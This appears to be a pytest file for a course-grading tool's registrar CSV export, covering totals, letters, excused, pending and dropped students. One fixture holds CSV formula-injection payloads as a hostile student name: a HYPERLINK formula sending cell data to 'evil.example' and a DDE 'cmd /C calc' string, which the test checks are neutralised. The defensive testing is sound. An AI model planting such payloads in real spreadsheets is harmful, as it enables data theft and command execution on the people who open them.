"""The registrar's CSV (report/registrar.py): one row per student with the course total, its letter and each
homework's mark, excused or pending; a dropped student has no row; names from the roster are inert."""
import csv

import pytest
from traitlets.config import Config

from dgmlab.grading.inert import write_csv
from dgmlab.grading.report.class_data import ClassData, RosterEntry, Submission
from dgmlab.grading.report.registrar import lines, rows
from dgmlab.grading.term.term_rules import DgmlabTerm, TermRules

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rules(**settings) -> TermRules:
    c = Config()
    for k, v in settings.items():
        setattr(c.DgmlabTerm, k, v)
    return TermRules(DgmlabTerm(config=c))


def _sub(sid, hw, score, top, pending=0):
    return Submission(sid, hw, "graded", score=score, max_score=top, auto_score=score, pending_manual=pending,
                      points=(score,), ungraded=("q_written",) * pending)


def _data() -> ClassData:
    roster = {sid: RosterEntry(sid, sid.title(), "Doe") for sid in ("ada", "bob", "cy", "dee", "eve")}
    roster["mal"] = RosterEntry("mal", HOSTILE, "+cmd|' /C calc'!A0")
    subs = [_sub("ada", "hw1", 18, 20), _sub("ada", "hw2", 9, 10),
            _sub("bob", "hw1", 12, 20, pending=1), _sub("bob", "hw2", 10, 10),
            _sub("cy", "hw1", 15, 20),
            _sub("dee", "hw1", 16, 20),
            _sub("eve", "hw1", 20, 20), _sub("eve", "hw2", 10, 10),
            _sub("mal", "hw1", 10, 20), _sub("mal", "hw2", 5, 10)]
    return ClassData(["hw1", "hw2"], roster, [], subs, {}, {"hw1": 20.0, "hw2": 10.0})


RULES = dict(weights={"hw1": 1, "hw2": 1}, letters={"A": 90, "B": 80, "C": 70, "F": 0}, excused={"hw2": ["cy"]})


def _written(tmp_path, got):
    path = write_csv(tmp_path / "registrar.csv", got.rows)
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_each_student_has_a_total_a_letter_and_each_homeworks_mark(tmp_path):
    table = _written(tmp_path, rows(_data(), _rules(**RULES)))
    assert table[0] == ["student_id", "name", "total", "letter", "hw1 (of 20)", "hw2 (of 10)"]
    by = {r[0]: r[2:] for r in table[1:]}
    assert by["ada"] == ["90.00", "A", "18.00", "9.00"]  # (18/20 + 9/10) / 2
    assert by["bob"] == ["pending", "", "pending", "10.00"]  # an answer still to grade by hand
    assert by["cy"] == ["75.00", "C", "15.00", "excused"]  # hw2 excused: hw1 alone counts
    assert by["dee"] == ["40.00", "F", "16.00", "0.00"]  # nothing handed in for hw2: 0


def test_a_dropped_student_has_no_row():
    got = rows(_data(), _rules(dropped=["eve"], **RULES))
    assert "eve" not in [r[0] for r in got.rows[1:]] and "eve" not in got.totals
    assert "ada" in got.totals


def test_a_hostile_name_from_the_roster_is_text_in_the_csv(tmp_path):
    table = _written(tmp_path, rows(_data(), _rules(**RULES)))
    mal = next(r for r in table if r[0] == "mal")
    assert mal[1] == f"'+cmd|' /C calc'!A0, {HOSTILE}"  # a leading ' : a spreadsheet shows it, never runs it


def test_the_terminal_lines_say_what_is_pending_and_what_counted_zero():
    out = "\n".join(lines(rows(_data(), _rules(**RULES))))
    assert "1 pending" in out and "pending bob: hw1: 1 answer still to grade by hand (q_written)" in out
    assert "dee: hw2" in out


def test_nothing_handed_in_before_the_students_own_due_date_is_pending_not_zero():
    import datetime as dt

    now = dt.datetime(2025, 2, 12, tzinfo=dt.timezone.utc)
    later = {"dee": dt.datetime(2025, 2, 13, tzinfo=dt.timezone.utc)}  # e.g. an accommodation of 48 hours
    due = lambda hw, sid: later.get(sid, dt.datetime(2025, 2, 11, tzinfo=dt.timezone.utc))  # noqa: E731
    got = rows(_data(), _rules(**RULES), due=due, now=now)
    dee = next(r for r in got.rows if r[0] == "dee")
    assert dee[2:] == ["pending", "", "16.00", "pending"] and ("dee", "hw2") not in got.missing


@pytest.mark.slow  # nbgrader makes a gradebook with alembic
def test_dgmlab_registrar_writes_the_csv_and_prints_where(tmp_path, capsys):
    import nbformat

    from dgmlab import cli
    from grading.term.test_late_everywhere import CONFIG, HW, _make

    _make(tmp_path, CONFIG + '\nc.DgmlabTerm.letters = {"P": 50, "F": 0}\nc.DgmlabTerm.dropped = ["dee"]\n')
    (tmp_path / "source" / HW).mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(), tmp_path / "source" / HW / f"{HW}.ipynb")
    assert cli.main(["--course", str(tmp_path), "registrar", "--out", "term/registrar.csv"]) == 0
    with (tmp_path / "term" / "registrar.csv").open(encoding="utf-8", newline="") as f:
        table = {r["student_id"]: (r["total"], r["letter"], r[f"{HW} (of 20)"]) for r in csv.DictReader(f)}
    # 14 of 20 on time (70%), bob's 12.6 a day late (63%), cy's refused (0); dee dropped
    assert table == {"ada": ("70.00", "P", "14.00"), "bob": ("63.00", "P", "12.60"), "cy": ("0.00", "F", "0.00")}
    out = capsys.readouterr().out
    assert "3 students, 3 with a total, 0 pending" in out and f"registrar CSV: {tmp_path / 'term'}" in out
